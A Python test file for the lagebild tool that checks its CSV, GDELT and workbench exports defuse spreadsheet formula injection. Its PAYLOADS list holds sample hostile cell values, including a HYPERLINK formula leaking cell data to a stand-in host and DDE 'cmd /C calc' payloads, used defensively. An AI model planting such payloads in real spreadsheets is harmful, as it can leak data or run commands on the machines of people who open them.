"""Spreadsheet formula injection: every CSV lagebild writes (`lagebild export --format csv`
on each backend, the workbench's `/api/events.csv`, the text columns of the GDELT table)
puts a single quote before a text cell that begins with = + - @ (tab, CR …), leaves
numbers alone, and lagebild.csvsafe.restore gives the text back (OWASP, CSV Injection)."""
import csv
import io

import pytest
import duckdb
from hypothesis import given, settings, strategies as st
from typer.testing import CliRunner

from lagebild.cli import app
from lagebild.csvsafe import FORMULA_LEADS, neutralise, neutralise_table, restore
from lagebild.schemas import Actor, Document, Event
from lagebild.store import Store

_DUCK = duckdb.connect()

# titles, names and text a hostile page could carry (our own strings)
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1;"Quelle")',
    "+49 30 1234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "'=already quoted",
]


def _doc(i: int, title: str) -> Document:
    name = "=Kreml" if i % 2 else "-Ministerium"
    text = f"{title}\n\n{name} kritisierte am Dienstag die Ukraine. Weitere Einzelheiten folgten."
    s = text.index(name)
    t = text.index("die Ukraine")
    src = Actor(id=f"org:x{i}", name=name, type="ORG", country="RUS", code="RUSGOV", mentions=[(s, s + len(name))])
    tgt = Actor(id="UKR", name="die Ukraine", type="GPE", country="UKR", code="UKR", mentions=[(t, t + 11)])
    trig = text.index("kritisierte")
    return Document(
        id=f"inj{i}", source=f"-r{i}.txt", language="de", title=title, authors=["@autor"], published="2025-04-16",
        sections=[], captions=[], text=text, url=None, actors=[src, tgt],
        events=[Event(source=src.id, target=tgt.id, cameo="111", quad_class=3, goldstein=-2.0, date="2025-04-15",
                      sentence=text[s:], span=(s, len(text)), trigger="kritisierte",
                      trigger_span=(trig, trig + 11), location="=Berlin")],
    )


def _read(path) -> list:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture()
def hostile_db(store_target):
    with Store(store_target) as store:
        store.save_many([_doc(i, p) for i, p in enumerate(PAYLOADS)])
    return store_target


@pytest.mark.parametrize("table", ["documents", "actors", "events"])
def test_cli_csv_export_neutralises_formula_cells(hostile_db, tmp_path, table):
    out = tmp_path / f"{table}.csv"
    result = CliRunner().invoke(app, ["export", str(out), "--format", "csv", "--table", table, "--db", hostile_db])
    assert result.exit_code == 0, result.output
    rows = _read(out)
    for row in rows:
        for key, cell in row.items():
            if cell[:1] in FORMULA_LEADS:
                # a leading minus is left only on numbers (a Goldstein score), never on text
                assert cell[0] == "-" and float(cell) < 0, (key, cell)
    if table == "documents":
        titles = sorted(restore(r["title"]) for r in rows)
        assert titles == sorted(PAYLOADS)  # restore() gives the text back exactly
        assert all(r["title"].startswith("'") for r in rows)
        assert {r["source"] for r in rows} == {f"'-r{i}.txt" for i in range(len(PAYLOADS))}
    if table == "actors":
        assert {"'=Kreml", "'-Ministerium"} <= {r["name"] for r in rows}
    if table == "events":
        assert {r["location"] for r in rows} == {"'=Berlin"}
        assert {float(r["goldstein"]) for r in rows} == {-2.0}  # numbers stay numbers


def test_jsonl_and_parquet_exports_keep_the_text_unchanged(hostile_db, tmp_path):
    import json

    import pyarrow.parquet as pq

    runner = CliRunner()
    assert runner.invoke(app, ["export", str(tmp_path / "d.jsonl"), "--db", hostile_db]).exit_code == 0
    titles = sorted(json.loads(line)["title"] for line in (tmp_path / "d.jsonl").read_text(encoding="utf-8").splitlines())
    assert titles == sorted(PAYLOADS)
    assert runner.invoke(app, ["export", str(tmp_path / "d.parquet"), "--format", "parquet", "--db", hostile_db]).exit_code == 0
    assert sorted(pq.read_table(tmp_path / "d.parquet").column("title").to_pylist()) == sorted(PAYLOADS)


def test_gdelt_text_columns_are_neutralised_numbers_are_not(tmp_path):
    from lagebild.export_gdelt import GDELT_EVENT_COLUMNS

    db = str(tmp_path / "g.duckdb")
    with Store(db) as store:
        store.save_many([_doc(0, "Titel"), _doc(1, "Titel zwei")])
    out = tmp_path / "g.tsv"
    assert CliRunner().invoke(app, ["export", str(out), "--format", "gdelt", "--db", db]).exit_code == 0
    rows = [dict(zip(GDELT_EVENT_COLUMNS, line.split("\t"))) for line in out.read_text(encoding="utf-8").splitlines()]
    assert rows
    for r in rows:
        assert r["Actor1Name"] in ("'=KREML", "'-MINISTERIUM")
        assert r["ActionGeo_FullName"] == "'=Berlin"
        assert r["SOURCEURL"].startswith("'-r")
        assert r["GoldsteinScale"] == "-2.0"  # a number keeps its sign


def test_workbench_events_csv_is_neutralised(tmp_path):
    from fastapi.testclient import TestClient

    from lagebild.serve import create_app

    db = str(tmp_path / "w.duckdb")
    with Store(db) as store:
        store.save_many([_doc(i, p) for i, p in enumerate(PAYLOADS)])
    client = TestClient(create_app(db))
    r = client.get("/api/events.csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == len(PAYLOADS)
    assert {row["title"] for row in rows} == {neutralise(p) for p in PAYLOADS}
    assert {row["source_name"] for row in rows} == {"'=Kreml", "'-Ministerium"}
    assert {row["goldstein"] for row in rows} == {"-2"} or {float(row["goldstein"]) for row in rows} == {-2.0}
    # the Parquet download is data for programs: unchanged
    import pyarrow.parquet as pq

    p = client.get("/api/events.parquet")
    assert sorted(pq.read_table(io.BytesIO(p.content)).column("title").to_pylist()) == sorted(PAYLOADS)


@given(st.text(max_size=60))
def test_neutralised_text_never_starts_a_formula_and_restores(text):
    safe = neutralise(text)
    assert safe[:1] not in FORMULA_LEADS
    assert restore(safe) == text
    if text[:1] not in FORMULA_LEADS and not text.startswith("'"):
        assert safe == text  # ordinary text is written as it is


@given(st.lists(st.one_of(st.none(), st.text(max_size=40)), min_size=1, max_size=8))
def test_any_cells_survive_the_csv_writer_and_read_back(cells):
    """Arbitrary cell text (separators, quotes, line breaks, formula characters) through
    pyarrow's CSV writer and Python's csv reader: one row, no cell a formula, restore() gives
    the text back."""
    import pyarrow as pa
    import pyarrow.csv as pacsv

    table = neutralise_table(pa.table({"i": list(range(len(cells))), "c": pa.array(cells, pa.string())}))
    buf = io.BytesIO()
    pacsv.write_csv(table, buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue().decode("utf-8"), newline="")))
    assert rows[0] == ["i", "c"] and len(rows) == len(cells) + 1
    for cell, (i, got) in zip(cells, rows[1:]):
        assert got[:1] not in FORMULA_LEADS
        assert restore(got) == (cell or "")


@settings(deadline=None)
@given(st.text(max_size=40))
def test_duckdb_rule_matches_the_python_rule(text):
    """The SQL form used for DuckDB's COPY … (FORMAT csv) gives what neutralise() gives."""
    from lagebild.csvsafe import duckdb_select

    (got,) = _DUCK.execute(duckdb_select("SELECT ?::VARCHAR AS c", ["c"]), [text]).fetchone()
    assert got == neutralise(text)
